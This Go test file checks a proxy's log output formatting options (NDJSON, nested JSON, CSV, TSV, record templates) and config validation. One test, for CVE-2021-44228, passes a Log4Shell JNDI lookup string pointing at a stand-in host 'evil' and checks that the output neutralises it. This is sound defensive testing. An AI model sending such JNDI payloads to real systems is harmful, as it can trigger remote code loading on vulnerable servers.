package logjob

import (
	"context"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/prismproxy/prism/internal/event"
	"github.com/prismproxy/prism/internal/render"
)

// The examples of Logpush's "Log Output Options" page, with its
// http_requests fields mapped to spectrum_events ones: ClientIP stays,
// EdgeStartTimestamp is Timestamp, RayID (a string) is Application.
func logpushEvents() []event.Event {
	var out []event.Event
	for i, ts := range []int64{1506702504433000200, 1506702504433000300, 1506702504433000400} {
		e := event.New([]string{"3a6050bcbe121a87", "3a6050bcbe121a88", "3a6050bcbe121a89"}[i], event.NewID(time.Now()))
		e.Type = event.Connect
		e.Time = time.Unix(0, ts)
		e.ClientAddr = netip.AddrPortFrom(netip.AddrFrom4([4]byte{89, 163, 242, byte(206 + i)}), 5000)
		out = append(out, e)
	}
	return out
}

func str(s string) *string { return &s }

// runOutput writes the three events through a file destination with cfg's
// output options and returns the file.
func runOutput(t *testing.T, cfg Config) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "out.log")
	cfg.Name, cfg.Dataset, cfg.Destination = "j", render.Spectrum, fileDest(path)
	cfg.Fields = []string{"ClientIP", "Timestamp", "Application"}
	p, err := newPrepared(t, node, []Config{cfg}, nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range logpushEvents() {
		p.Emit(&e)
	}
	if err := p.Close(context.Background()); err != nil {
		t.Fatal(err)
	}
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func TestLogpushOutputOptionExamples(t *testing.T) {
	for _, tc := range []struct {
		name string
		cfg  Config
		want string
	}{
		{"ndjson default", Config{},
			`{"ClientIP":"89.163.242.206","Timestamp":1506702504433000200,"Application":"3a6050bcbe121a87"}
{"ClientIP":"89.163.242.207","Timestamp":1506702504433000300,"Application":"3a6050bcbe121a88"}
{"ClientIP":"89.163.242.208","Timestamp":1506702504433000400,"Application":"3a6050bcbe121a89"}
`},
		{"ndjson defaults spelled out", Config{RecordPrefix: str("{"), RecordSuffix: str("}\n"), FieldDelimiter: str(",")},
			`{"ClientIP":"89.163.242.206","Timestamp":1506702504433000200,"Application":"3a6050bcbe121a87"}
{"ClientIP":"89.163.242.207","Timestamp":1506702504433000300,"Application":"3a6050bcbe121a88"}
{"ClientIP":"89.163.242.208","Timestamp":1506702504433000400,"Application":"3a6050bcbe121a89"}
`},
		{"ndjson with different field names", Config{RecordTemplate: `"client-ip":{{.ClientIP}},"timestamp":{{.Timestamp}},"ray-id":{{.Application}}`},
			`{"client-ip":"89.163.242.206","timestamp":1506702504433000200,"ray-id":"3a6050bcbe121a87"}
{"client-ip":"89.163.242.207","timestamp":1506702504433000300,"ray-id":"3a6050bcbe121a88"}
{"client-ip":"89.163.242.208","timestamp":1506702504433000400,"ray-id":"3a6050bcbe121a89"}
`},
		{"json with nested object", Config{BatchPrefix: `{"events":[`, BatchSuffix: "\n]}\n", RecordPrefix: str("\n  {\"info\":{"), RecordSuffix: str("}}"), RecordDelimiter: ","},
			`{"events":[
  {"info":{"ClientIP":"89.163.242.206","Timestamp":1506702504433000200,"Application":"3a6050bcbe121a87"}},
  {"info":{"ClientIP":"89.163.242.207","Timestamp":1506702504433000300,"Application":"3a6050bcbe121a88"}},
  {"info":{"ClientIP":"89.163.242.208","Timestamp":1506702504433000400,"Application":"3a6050bcbe121a89"}}
]}
`},
		// Logpush quotes every CSV string; prism quotes a cell only when
		// RFC 4180 needs it (docs/logging.md), the one difference.
		{"csv with header", Config{OutputType: "csv", BatchPrefix: "ClientIP,Timestamp,Application\n"},
			`ClientIP,Timestamp,Application
89.163.242.206,1506702504433000200,3a6050bcbe121a87
89.163.242.207,1506702504433000300,3a6050bcbe121a88
89.163.242.208,1506702504433000400,3a6050bcbe121a89
`},
		{"tsv with header", Config{OutputType: "csv", BatchPrefix: "ClientIP\tTimestamp\tApplication\n", FieldDelimiter: str("\t")},
			"ClientIP\tTimestamp\tApplication\n" +
				"89.163.242.206\t1506702504433000200\t3a6050bcbe121a87\n" +
				"89.163.242.207\t1506702504433000300\t3a6050bcbe121a88\n" +
				"89.163.242.208\t1506702504433000400\t3a6050bcbe121a89\n"},
		{"template constants, comments, unselected field", Config{RecordPrefix: str(""), RecordSuffix: str("\n"),
			RecordTemplate: `{{/* ip first */}}{{.ClientIP}} {{"{{"}}{{ .Status }}{{"}}"}}`},
			`"89.163.242.206" {{null}}
"89.163.242.207" {{null}}
"89.163.242.208" {{null}}
`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := runOutput(t, tc.cfg); got != tc.want {
				t.Errorf("got\n%s\nwant\n%s", got, tc.want)
			}
		})
	}
}

func TestCVE202144228(t *testing.T) {
	path := filepath.Join(t.TempDir(), "out.log")
	p, err := newPrepared(t, node, []Config{{Name: "j", Dataset: render.Spectrum, Fields: []string{"Application"}, CVE202144228: true,
		BatchPrefix: "${batch}", Destination: fileDest(path)}}, nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	e := event.New("${jndi:ldap://evil/a}$${x}", event.NewID(time.Now()))
	e.Type = event.Connect
	p.Emit(&e)
	p.Close(context.Background())
	b, _ := os.ReadFile(path)
	if want := `x{batch}{"Application":"x{jndi:ldap://evil/a}$x{x}"}` + "\n"; string(b) != want {
		t.Fatalf("got %q, want %q", b, want)
	}
}

func TestOutputOptionErrors(t *testing.T) {
	for _, tc := range []struct {
		cfg  Config
		want string
	}{
		{Config{RecordTemplate: "{{.NoSuchField}}"}, `record_template: unknown field "NoSuchField"`},
		{Config{RecordTemplate: "{{if .ClientIP}}x{{end}}"}, `record_template: {{if .ClientIP}}: only {{.Field}}`},
		{Config{RecordTemplate: "{{.ClientIP"}, `record_template: unclosed {{`},
		{Config{FieldDelimiter: str("")}, `field_delimiter: must not be empty`},
	} {
		tc.cfg.Name, tc.cfg.Dataset = "j", render.Spectrum
		var msgs []string
		for _, e := range tc.cfg.Validate() {
			msgs = append(msgs, e.Error())
		}
		if got := strings.Join(msgs, "; "); !strings.Contains(got, tc.want) {
			t.Errorf("%+v: %q, want %q", tc.cfg, got, tc.want)
		}
	}
}
